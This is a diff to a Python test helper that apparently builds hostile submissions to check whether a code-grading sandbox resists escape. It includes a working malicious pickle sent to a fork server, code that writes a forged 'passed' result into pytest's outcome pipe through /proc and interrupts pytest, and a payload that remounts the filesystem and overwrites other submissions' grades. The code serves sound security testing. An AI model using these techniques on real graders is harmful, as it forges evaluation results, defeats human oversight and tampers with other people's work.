@@ -4,8 +4,9 @@ adapters are imported. An attack that reports what it managed raises with that l
 grade's reason shows it.
 
 * ``forkserver``: connects to the fork server (its address, and every ``listener-*`` socket it
-  can find) and sends a pickle that, run there, writes "passed" outcomes into every descriptor of
-  every process it can open and a canary file outside the scratch copy;
+  can find) and sends a pickle that, run there, writes a "passed" outcome into pytest's outcome
+  pipe through ``/proc``, interrupts pytest, and writes a canary file outside the scratch copy
+  (at f075e9f this scored the stub full points);
 * ``others``: remounts ``/`` writable, replaces other submissions' adapters (in the folder of
   submissions and in their scratch copies) with the stub, and rewrites graded submissions'
   grade.json and results.json, and a later one's, to forged grades;
@@ -24,7 +25,6 @@ import json
 from pathlib import Path
 
 from tests.test_grading import make_submission
-from tests.test_grading_forgeries import FORGE
 
 FORKSERVER = '''
 import os as _os, pickle as _pickle, socket as _socket
@@ -35,7 +35,7 @@ _PAYLOAD = {payload!r}
 
 class _Run:
     def __reduce__(self):
-        return (exec, (_PAYLOAD,))
+        return (exec, (_PAYLOAD, {{}}))
 
 
 def _escape():
@@ -55,11 +55,15 @@ def _escape():
                 r2, w2 = _os.pipe()
                 _red.sendfds(s, [r, w2, w2, w2])
                 _os.write(w, _pickle.dumps(_Run()))
+                return True
         except OSError:
             pass
+    return False
 
 
-_escape()
+if _escape():
+    import time as _time
+    _time.sleep(10)  # pytest is stopped before this rank's own failure reaches it
 '''
 
 OTHERS = '''
@@ -151,6 +155,30 @@ def _host():
 raise RuntimeError(_host())
 '''
 
+# What the pickle runs where it lands: "passed" written into pytest's outcome pipe (found by its
+# --grading-fd flag), pytest interrupted before it reports the real outcome, a canary written
+# outside the scratch copy.
+ESCAPED = """
+import json as _json, os as _os, signal as _signal
+_line = (_json.dumps({"test": "test_sharded_optimizer.py::test_sgd_with_momentum",
+                      "problem": "optimizer_state_sharding", "passed": True, "skipped": False,
+                      "reason": "", "seconds": 0.0}) + "\\n").encode()
+for _pid in filter(str.isdigit, _os.listdir("/proc")):
+    try:
+        _args = open(f"/proc/{_pid}/cmdline", "rb").read().split(b"\\0")
+    except OSError:
+        continue
+    for _arg in _args:
+        if _arg.startswith(b"--grading-fd="):
+            try:
+                with open(f"/proc/{_pid}/fd/{int(_arg.split(b'=')[1])}", "ab") as _f:
+                    _f.write(_line)
+                _os.kill(int(_pid), _signal.SIGINT)
+            except OSError:
+                pass
+open(%r, "w").write("escaped")
+"""
+
 STUB_BASED = {"forkserver", "others", "daemon", "host", "all"}
 
 
@@ -168,8 +196,7 @@ def hostile(folder: Path, kind: str, name: str, **paths) -> Path:
     tree = build(folder, name, stub=kind in STUB_BASED)
     adapters = tree / "tests" / "adapters.py"
     attack = {
-        "forkserver": lambda: FORGE + FORKSERVER.format(payload=FORGE + "\n_forge()\nopen(%r, 'w').write('escaped')\n"
-                                                % str(paths["canary"])),
+        "forkserver": lambda: FORKSERVER.format(payload=ESCAPED % str(paths["canary"])),
         "others": lambda: OTHERS.format(victims=[str(p) for p in paths["victims"]],
                                         outputs=[str(p) for p in paths["outputs"]]),
         "daemon": lambda: DAEMON.format(paths=[str(p) for p in paths["outputs"]], marker=paths["marker"]),
